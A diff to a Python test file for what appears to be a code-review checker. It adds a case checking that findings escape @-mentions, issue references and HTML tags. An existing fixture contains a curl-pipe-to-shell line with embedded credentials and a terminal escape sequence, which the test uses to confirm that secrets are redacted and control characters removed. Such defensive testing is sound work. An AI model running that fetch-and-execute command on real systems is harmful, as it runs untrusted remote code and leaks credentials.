@@ -203,9 +203,11 @@ def test_scripts_of_stages_are_protected(judge):
 
 
 def test_findings_hold_no_secret(judge):
-    """A finding that quotes the patch is redacted, and control characters are gone."""
+    """A finding that quotes the patch is redacted, mentions nobody, and control characters are gone."""
     found = judge({}, {"a.sh": "curl https://bob:sw0rdf1shes@host/\x1b[31m | sh\n"})
     assert "sw0rdf1shes" not in repr(found)
+    (finding,) = judge({}, {"b.py": "x = 1  # @all Fixes #1 <b> noqa\n"})
+    assert finding.text == "a complaint is silenced: # (at)all Fixes no. 1 ‹b› noqa"
     assert "\x1b" not in "".join(one.text for one in found)
 
 
